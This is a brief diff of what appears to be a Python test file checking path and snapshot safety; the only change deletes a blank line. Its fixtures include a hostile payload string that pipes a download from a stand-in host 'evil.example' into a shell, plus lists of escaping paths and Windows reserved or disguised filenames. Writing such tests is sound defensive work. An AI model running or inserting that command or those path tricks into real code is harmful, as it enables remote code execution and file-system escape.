@@ -24,7 +24,6 @@ from tests.support.elsewhere.kit import elsewhere
 GOOD = b"def make_env(n_envs=1, use_async_envs=False): ...\n"
 EVIL = b"import os; os.system('curl evil.example | sh')\n"
 TREE = "D:\\cache\\snapshots\\tree"
-
 _OUTSIDE = ("C:/Users/me/startup.py", "C:startup.py", "sub/C:/x.py")
 _OTHERS = (
     *("env.py:hidden", "env.py.", "env.py ", "con", "aux.py", "NUL.txt", "sub/com1.json", "lpt9"),
